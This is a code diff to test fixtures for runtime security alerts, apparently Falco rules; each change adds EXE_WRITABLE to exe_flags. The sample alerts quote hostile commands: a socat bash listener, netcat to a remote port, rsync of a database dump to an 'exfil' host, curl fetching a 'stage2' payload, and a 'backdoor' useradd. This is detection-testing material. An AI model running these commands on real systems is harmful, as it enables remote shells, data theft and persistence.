@@ -93,7 +93,7 @@ CASES = [
          "Curl or wget run with disallowed HTTP_PROXY environment variable | "
          "env=HTTP_PROXY=http://203.0.113.40:3128 PATH=/usr/bin:/bin evt_type=execve user=root user_uid=0 "
          "user_loginuid=-1 process=curl proc_exepath=/usr/bin/curl parent=sh command=curl "
-         "https://api.example.com/v1/token terminal=0 exe_flags=EXE_LOWER_LAYER",
+         "https://api.example.com/v1/token terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
          in_container("1a2b3c4d5e6f", "job", "docker.io/curlimages/curl", "8.5.0")),
     Case("Unexpected UDP Traffic", "incubating", "Notice",
          "Unexpected UDP Traffic Seen | connection=192.168.10.20:40000->203.0.113.9:4444 lport=40000 rport=4444 "
@@ -109,7 +109,7 @@ CASES = [
     Case("User mgmt binaries", "incubating", "Notice",
          "User management binary command run outside of container | gparent=sshd ggparent=systemd gggparent=<NA> "
          "evt_type=execve user=root user_uid=0 user_loginuid=0 process=useradd proc_exepath=/usr/sbin/useradd "
-         "parent=bash command=useradd -m -s /bin/bash backdoor terminal=34816 exe_flags=0",
+         "parent=bash command=useradd -m -s /bin/bash backdoor terminal=34816 exe_flags=EXE_WRITABLE",
          HOST),
     Case("Create files below dev", "incubating", "Error",
          "File created below /dev by untrusted program | file=/dev/.lock-xmr evt_type=openat user=root "
@@ -132,12 +132,12 @@ CASES = [
     Case("Launch Package Management Process in Container", "incubating", "Error",
          "Package management process launched in container | evt_type=execve user=root user_uid=0 "
          "user_loginuid=-1 process=apt-get proc_exepath=/usr/bin/apt-get parent=sh command=apt-get install -y "
-         "ncat terminal=0 exe_flags=EXE_LOWER_LAYER",
+         "ncat terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
          in_container("4a7c1e9b3d2f", "web", "docker.io/library/nginx", "1.25")),
     Case("Launch Suspicious Network Tool in Container", "incubating", "Notice",
          "Network tool launched in container | evt_type=execve user=root user_uid=0 user_loginuid=-1 "
          "process=nmap proc_exepath=/usr/bin/nmap parent=bash command=nmap -sS -p- 10.96.0.0/12 terminal=0 "
-         "exe_flags=EXE_LOWER_LAYER",
+         "exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
          in_container("3c8e2a7f9b1d", "api", "ghcr.io/example/orders", "2.0.1", "orders-5f7d8", "shop")),
     Case("Delete or rename shell history", "incubating", "Warning",
          "Shell history deleted or renamed | file= name=/root/.bash_history path=<NA> oldpath=<NA> "
@@ -153,12 +153,12 @@ CASES = [
     Case("Launch Remote File Copy Tools in Container", "incubating", "Notice",
          "Remote file copy tool launched in container | evt_type=execve user=root user_uid=0 user_loginuid=-1 "
          "process=rsync proc_exepath=/usr/bin/rsync parent=bash command=rsync -az /var/lib/postgresql/dump.sql "
-         "exfil@198.51.100.23:/srv/ terminal=0 exe_flags=EXE_LOWER_LAYER",
+         "exfil@198.51.100.23:/srv/ terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
          in_container("0e9d8c7b6a5f", "db", "docker.io/library/postgres", "16")),
     Case("Mount Launched in Privileged Container", "incubating", "Warning",
          "Mount was executed inside a privileged container | evt_type=execve user=root user_uid=0 "
          "user_loginuid=-1 process=mount proc_exepath=/bin/mount parent=sh command=mount /dev/sda1 /mnt "
-         "terminal=0 exe_flags=EXE_LOWER_LAYER",
+         "terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
          in_container("c0ffee123456", "debug", "docker.io/library/alpine", "3.19")),
     Case("Launch Ingress Remote File Copy Tools in Container", "incubating", "Notice",
          "Ingress remote file copy tool launched in container | evt_type=execve user=<NA> user_uid=33 "
@@ -263,7 +263,7 @@ CASES = [
     Case("Container Run as Root User", "sandbox", "Informational",
          "Container launched with root user privilege | evt_type=execve user=root user_uid=0 user_loginuid=-1 "
          "process=orders proc_exepath=/usr/local/bin/orders parent=runc:[1:CHILD] command=orders --port 8080 "
-         "terminal=0 exe_flags=EXE_LOWER_LAYER",
+         "terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
          in_container("d5e6f708192a", "api", "ghcr.io/example/orders", "2.0.1")),
     Case("Sudo Potential Privilege Escalation", "sandbox", "Critical",
          "Detect Sudo Privilege Escalation Exploit (CVE-2021-3156) | evt_type=execve user=alice user_uid=1000 "
@@ -293,7 +293,7 @@ CASES = [
          in_container("b3c4d5e6f708", "evil", "ghcr.io/example/evil", "latest")),
     Case("Decoding Payload in Container", "sandbox", "Informational",
          "Decoding Payload in Container | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=base64 "
-         "proc_exepath=/usr/bin/base64 parent=sh command=base64 -d terminal=0 exe_flags=EXE_LOWER_LAYER",
+         "proc_exepath=/usr/bin/base64 parent=sh command=base64 -d terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
          in_container("7b6a5f4e3d2c", "api", "ghcr.io/example/orders", "2.0.1")),
     Case("Basic Interactive Reconnaissance", "sandbox", "Notice",
          "Basic Interactive Reconnaissance | evt_type=execve user=alice user_uid=1000 user_loginuid=1000 "
@@ -302,12 +302,12 @@ CASES = [
     Case("Netcat/Socat Remote Code Execution on Host", "sandbox", "Warning",
          "Netcat/Socat runs on host that allows remote code execution | evt_type=execve user=root user_uid=0 "
          "user_loginuid=-1 process=socat proc_exepath=/usr/bin/socat parent=bash command=socat "
-         "TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr terminal=0 exe_flags=0",
+         "TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr terminal=0 exe_flags=EXE_WRITABLE",
          HOST),
     Case("Network Tool Executed During NPM Package Install", "sandbox", "Warning",
          "Network tool executed during NPM package installation | evt_type=execve user=root user_uid=0 "
          "user_loginuid=-1 process=nc proc_exepath=/bin/nc parent=sh command=nc 203.0.113.66 9001 terminal=0 "
-         "gparent=npm ggparent=containerd-shim gggparent=systemd exe_flags=EXE_LOWER_LAYER",
+         "gparent=npm ggparent=containerd-shim gggparent=systemd exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
          in_container("8091a2b3c4d5", "build", "docker.io/library/node", "20")),
     Case("Known Cryptominer Process Executed", "sandbox", "Critical",
          "Cryptominer process executed | process=xmrig exe=/opt/xmrig/xmrig evt_type=execve user=root user_uid=0 "
@@ -322,7 +322,7 @@ CASES = [
     Case("Web Server Spawned Suspicious Child Process", "sandbox", "Warning",
          "Web server spawned suspicious child process | child=curl web_server=gunicorn gparent=gunicorn "
          "evt_type=execve user=root user_uid=0 user_loginuid=-1 command=curl -s http://198.51.100.7/stage2 "
-         "terminal=0 exe_flags=EXE_LOWER_LAYER",
+         "terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
          in_container("91a2b3c4d5e6", "app", "ghcr.io/example/flask-app", "1.2")),
     Case("Reverse Shell from Web Server", "sandbox", "Critical",
          "Reverse shell spawned from web server | process=bash web_server=apache2 evt_type=execve user=<NA> "
